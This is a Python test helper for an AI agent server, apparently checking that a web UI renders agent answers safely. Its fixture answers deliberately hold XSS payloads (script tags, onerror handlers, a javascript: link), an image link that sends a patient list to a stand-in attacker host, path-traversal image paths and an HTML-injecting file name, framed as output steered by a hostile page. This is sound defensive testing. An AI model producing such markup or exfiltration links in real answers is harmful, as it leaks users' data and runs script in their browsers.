"""A real server on 127.0.0.1 for tests: uvicorn in a thread, an agent on the scripted model.

The agent understands a tiny command language in the user's message, so each test says what
the turn does: ``write FILE TEXT`` (a Write call), ``sleep SECONDS`` (a slow tool call),
``steps N SECONDS`` (N slow calls), ``chart FILE`` (a PNG image), ``todos`` (a TodoWrite-style
list in ``.loopwright/todos.json``), ``markdown`` (:data:`MARKDOWN_ANSWER`), ``charts`` (what
the healthcare agent leaves: charts, one in a directory with a space in its name, a CSV whose
name is HTML, then :data:`CHARTS_ANSWER`); anything else is echoed back.
"""

from __future__ import annotations

import asyncio
import json
import socket
import struct
import threading
import time
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
from fastapi import FastAPI

from loopwright import Agent, ReadTool, ScriptedModel, ToolContext, WriteTool, call, tool
from loopwright.messages import Message
from loopwright.models.base import ModelRequest
from loopwright.models.scripted import ScriptedTurn
from loopwright.server import GracefulServer, make_server
from loopwright.sessions.store import SessionStore

#: width and height of the PNG the ``chart`` tool saves
CHART_SIZE = (240, 160)

#: The ``markdown`` command's answer: what an analyst's answer holds (a heading, a table with
#: a right-aligned column, lists, emphasis, code) and what an answer steered by a hostile web
#: page or file might hold (raw HTML, a javascript: link, an image whose address carries data);
#: and a link and images naming workspace files by relative path (one of them missing).
MARKDOWN_ANSWER = """## Top prescribers

The **top prescriber** wrote *58* claims; see `humira_ca.csv` and `charts/top10.png`.

| NPI | claims |
|---|---:|
| 1335437889 | 58 |
| 1703397285 | 41 |
| 2027747536 | 37 |

1. Filter HUMIRA
2. Group by prescriber

- [the report](https://example.org/report)
- [click me](javascript:window.__pwned=3)
- [the chart](charts/top10.png)

![Top 10 chart](charts/top10.png)

![a chart never made](charts/none.png)
- ![secret](https://attacker.invalid/collect?d=patient-list)

```sql
SELECT PRESCRIBER_NPI_NBR, COUNT(*) FROM RX_CLAIMS
```

<img src="x" onerror="window.__pwned=1"><script>window.__pwned=2</script>
"""


#: The ``charts`` command's files and answer: charts shown in place by relative path (one
#: percent-encoded), and images that must not be fetched (outside the workspace, another host).
CHARTS_FILES = ("chart.png", "sub/dir/chart x.png")
HTML_NAMED_CSV = '<img src=x onerror="window.__pwned=4">.csv'
CHARTS_ANSWER = """The chart: ![Top 10](chart.png)

By state: ![By state](sub/dir/chart%20x.png)

Not fetched: ![up](../secret.png) ![up2](%2e%2e/secret.png) ![abs](/etc/passwd.png)
![elsewhere](//attacker.invalid/x.png) ![web](https://attacker.invalid/x.png)
"""


@tool
async def sleep(seconds: float, step: int = 0) -> str:
    """Wait, then say so.

    Args:
        seconds: How long to wait.
        step: Which step this is.
    """
    await asyncio.sleep(seconds)
    return f"slept {seconds}s (step {step})"


@tool(sequential=True)
def chart(file_path: str, ctx: ToolContext) -> str:
    """Save a small PNG chart in the workspace.

    Args:
        file_path: Where to save it.
    """
    target = ctx.workspace_dir / file_path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(png_bytes(*CHART_SIZE))
    return f"saved a chart to {file_path}"


def png_bytes(width: int, height: int) -> bytes:
    """A valid PNG image (a gradient), made without an imaging library."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = b"".join(
        b"\x00" + b"".join(bytes((x % 256, y * 255 // height, 160)) for x in range(width))
        for y in range(height)
    )
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def _task(messages: list[Message]) -> tuple[str, int]:
    """The latest user text and how many tool calls were made since."""
    calls = 0
    for message in reversed(messages):
        if message.role == "user" and message.text and not message.tool_results:
            return message.text.strip(), calls
        calls += len(message.tool_uses)
    return "", calls


def script(request: ModelRequest) -> ScriptedTurn:
    """The test agent's "model": reads the command in the user's message."""
    task, done = _task(list(request.messages))
    words = task.split()
    command = words[0] if words else ""
    if command == "write" and len(words) >= 3:
        if done == 0:
            content = " ".join(words[2:])
            return ScriptedTurn(
                "Writing it.\n", [call("Write", file_path=words[1], content=content)]
            )
        return ScriptedTurn(f"I wrote {words[1]}.")
    if command == "sleep" and len(words) == 2:
        if done == 0:
            return ScriptedTurn("Waiting.\n", [call("sleep", seconds=float(words[1]))])
        return ScriptedTurn("I slept.")
    if command == "steps" and len(words) == 3:
        if done < int(words[1]):
            return ScriptedTurn("", [call("sleep", seconds=float(words[2]), step=done)])
        return ScriptedTurn(f"Finished {done} steps.")
    if command == "chart" and len(words) == 2:
        if done == 0:
            return ScriptedTurn("Plotting.\n", [call("chart", file_path=words[1])])
        return ScriptedTurn(f"The chart is in {words[1]}.")
    if command == "todos":
        if done == 0:
            todos = [
                {"content": "Load the data", "status": "completed"},
                {"content": "Plot it", "status": "in_progress", "activeForm": "Plotting it"},
                {"content": "Write the report", "status": "pending"},
            ]
            return ScriptedTurn(
                "Planning.\n",
                [call("Write", file_path=".loopwright/todos.json", content=json.dumps(todos))],
            )
        return ScriptedTurn("Plan saved.")
    if command == "markdown":
        return ScriptedTurn(MARKDOWN_ANSWER)
    if command == "charts":
        if done == 0:
            calls = [call("chart", file_path=path) for path in CHARTS_FILES]
            calls.append(call("Write", file_path=HTML_NAMED_CSV, content="npi,claims\n1,2\n"))
            return ScriptedTurn("Plotting.\n", calls)
        return ScriptedTurn(CHARTS_ANSWER)
    return ScriptedTurn(f"You said: {task}")


def make_agent(tmp_path: Path, *, store: SessionStore | None = None, **kwargs: Any) -> Agent:
    from loopwright import MemoryStore

    return Agent(
        ScriptedModel(script, chunk_size=8),
        tools=[WriteTool, ReadTool, sleep, chart],
        store=store if store is not None else MemoryStore(),
        workspace_root=str(tmp_path / "workspaces"),
        **kwargs,
    )


@dataclass
class LiveServer:
    """A server running in a thread; ``client()`` talks to it over loopback."""

    app: FastAPI
    server: GracefulServer
    thread: threading.Thread
    base_url: str

    def client(self, token: str | None = None, **kwargs: Any) -> httpx.Client:
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        return httpx.Client(base_url=self.base_url, headers=headers, timeout=30, **kwargs)

    def stop(self, timeout: float = 30.0) -> None:
        self.server.should_exit = True
        self.thread.join(timeout)
        if self.thread.is_alive():
            raise RuntimeError("the test server did not stop")


def start_live(app: FastAPI) -> LiveServer:
    """Serve ``app`` on a free port of 127.0.0.1 until ``stop()``."""
    server = make_server(app, host="127.0.0.1", port=0, log_level="warning", access_log=False)
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    thread = threading.Thread(
        target=server.run, kwargs={"sockets": [sock]}, name="test-server", daemon=True
    )
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        if not thread.is_alive() or time.monotonic() > deadline:
            raise RuntimeError("the test server did not start")
        time.sleep(0.01)
    return LiveServer(app, server, thread, f"http://127.0.0.1:{port}")


@dataclass(frozen=True)
class SSE:
    """One Server-Sent Event as received: its id, event name and JSON data."""

    id: int
    event: str
    data: dict[str, Any]


def iter_sse(response: httpx.Response) -> Iterator[SSE]:
    """Parse an SSE response line by line, as a browser would (comments skipped)."""
    fields: dict[str, list[str]] = {}
    for line in response.iter_lines():
        if line == "":
            if "data" in fields:
                yield SSE(
                    int(fields["id"][-1]),
                    fields.get("event", ["message"])[-1],
                    json.loads("\n".join(fields["data"])),
                )
            fields = {}
            continue
        if line.startswith(":"):
            continue
        name, _, value = line.partition(":")
        fields.setdefault(name, []).append(value.removeprefix(" "))


def stream_turn(
    client: httpx.Client, session_id: str, content: str, **kwargs: Any
) -> tuple[httpx.Response, list[SSE]]:
    """Post a message and read its whole event stream."""
    with client.stream(
        "POST", f"/api/sessions/{session_id}/messages", json={"content": content}, **kwargs
    ) as response:
        events = list(iter_sse(response)) if response.status_code == 200 else []
        if response.status_code != 200:
            response.read()
    return response, events
